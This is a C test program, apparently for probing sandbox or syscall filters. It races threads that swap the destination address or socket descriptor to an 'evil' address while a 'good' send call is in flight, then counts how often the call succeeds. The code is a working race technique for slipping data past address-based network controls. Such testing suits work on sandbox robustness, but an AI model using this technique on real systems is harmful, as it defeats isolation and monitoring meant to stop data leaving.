/* SPDX-License-Identifier: Apache-2.0 */
/* flip ACT GOOD EVIL PORT SECONDS: makes a call for GOOD again and again while two threads
 * put EVIL in its place: in the memory that holds the address, or at the number of the
 * descriptor. Prints how often it tried and how often the call came back well; who heard
 * what, the servers know.
 *
 *     connect udp-connect sendto sendmsg sendmmsg     the address in memory is flipped
 *     fastopen                                        the same, data in the SYN
 *     dup-sendmsg                                     the descriptor is replaced */

#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

#define SLOT 100

static struct sockaddr_in good, evil;
static struct {
	struct sockaddr_in address; /* flips */
	struct msghdr message;
	struct mmsghdr many[4];
} shared;
static atomic_bool stop;
static char secret[] = "SECRET\n";
static struct iovec iov = { secret, sizeof(secret) - 1 };
static int good_fd, evil_fd;

static void
put(const struct sockaddr_in *to)
{
	*(volatile in_addr_t *)&shared.address.sin_addr.s_addr = to->sin_addr.s_addr;
	*(void *volatile *)&shared.message.msg_name = (void *)to;
	for (int i = 0; i < 4; i++)
		*(void *volatile *)&shared.many[i].msg_hdr.msg_name = (void *)to;
}

/* Not in step with the one who calls. */
static void
dawdle(unsigned *seed)
{
	for (volatile int n = rand_r(seed) & 63; n > 0; n--)
		;
}

static void *
flip(void *data)
{
	unsigned seed = (unsigned)(size_t)data;

	while (!stop) {
		put(&evil);
		dawdle(&seed);
		put(&good);
		dawdle(&seed);
	}
	return NULL;
}

static void *
swap(void *data)
{
	(void)data;
	while (!stop) {
		dup2(evil_fd, SLOT);
		dup2(good_fd, SLOT);
	}
	return NULL;
}

static int
make(int type)
{
	return socket(AF_INET, type | SOCK_CLOEXEC, 0);
}

static bool
talk(int type)
{
	int fd = make(type);
	bool ok = connect(fd, (struct sockaddr *)&shared.address, sizeof(shared.address)) == 0;

	if (ok)
		(void)!send(fd, secret, iov.iov_len, MSG_NOSIGNAL);
	close(fd);
	return ok;
}

static bool
act_connect(void)
{
	return talk(SOCK_STREAM);
}

static bool
act_udp_connect(void)
{
	return talk(SOCK_DGRAM);
}

static bool
act_fastopen(void)
{
	int fd = make(SOCK_STREAM);
	bool ok = sendto(fd, secret, iov.iov_len, MSG_FASTOPEN | MSG_NOSIGNAL,
			  (struct sockaddr *)&shared.address, sizeof(shared.address)) > 0;

	close(fd);
	return ok;
}

static bool
act_sendto(void)
{
	return sendto(good_fd, secret, iov.iov_len, 0, (struct sockaddr *)&shared.address,
		       sizeof(shared.address)) > 0;
}

static bool
act_sendmsg(void)
{
	return sendmsg(good_fd, &shared.message, 0) > 0;
}

static bool
act_sendmmsg(void)
{
	return sendmmsg(good_fd, shared.many, 4, 0) > 0;
}

/* To whoever the socket is connected to: GOOD's, as far as anybody has looked. */
static bool
act_dup_sendmsg(void)
{
	struct msghdr bare = { .msg_iov = &iov, .msg_iovlen = 1 };

	return sendmsg(SLOT, &bare, MSG_DONTWAIT | MSG_NOSIGNAL) > 0;
}

static const struct {
	const char *name;
	bool (*act)(void);
	bool swaps;
} acts[] = {
	{ "connect", act_connect, false },
	{ "udp-connect", act_udp_connect, false },
	{ "fastopen", act_fastopen, false },
	{ "sendto", act_sendto, false },
	{ "sendmsg", act_sendmsg, false },
	{ "sendmmsg", act_sendmmsg, false },
	{ "dup-sendmsg", act_dup_sendmsg, true },
};

/* The other one wants to be connected to EVIL, and is as far as it may be. */
static void
prepare(bool swaps)
{
	shared.address = good;
	shared.message = (struct msghdr){
		.msg_name = &good,
		.msg_namelen = sizeof(good),
		.msg_iov = &iov,
		.msg_iovlen = 1,
	};
	for (int i = 0; i < 4; i++)
		shared.many[i].msg_hdr = shared.message;
	good_fd = make(SOCK_DGRAM);
	evil_fd = make(SOCK_DGRAM);
	if (!swaps)
		return;
	(void)!connect(good_fd, (struct sockaddr *)&good, sizeof(good));
	(void)!connect(evil_fd, (struct sockaddr *)&evil, sizeof(evil));
	dup2(good_fd, SLOT);
}

/* time() ends a second that has hardly begun. */
static double
now(void)
{
	struct timespec at;

	clock_gettime(CLOCK_MONOTONIC, &at);
	return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
	pthread_t threads[2];
	long tries = 0, ok = 0;
	size_t i = 0;
	double end;

	while (argc == 6 && i < sizeof(acts) / sizeof(acts[0]) &&
		strcmp(acts[i].name, argv[1]) != 0)
		i++;
	if (argc != 6 || i == sizeof(acts) / sizeof(acts[0])) {
		fprintf(stderr, "usage: see the head of flip.c\n");
		return 2;
	}
	good.sin_family = evil.sin_family = AF_INET;
	good.sin_port = evil.sin_port = htons((uint16_t)strtol(argv[4], NULL, 10));
	inet_aton(argv[2], &good.sin_addr);
	inet_aton(argv[3], &evil.sin_addr);
	prepare(acts[i].swaps);
	for (int n = 0; n < 2; n++)
		pthread_create(
			&threads[n], NULL, acts[i].swaps ? swap : flip, (void *)(size_t)(n + 1));
	for (end = now() + (double)strtol(argv[5], NULL, 10); now() < end; tries++)
		ok += acts[i].act();
	stop = true;
	for (int n = 0; n < 2; n++)
		pthread_join(threads[n], NULL);
	printf("%ld tries, %ld came back well\n", tries, ok);
	return 0;
}
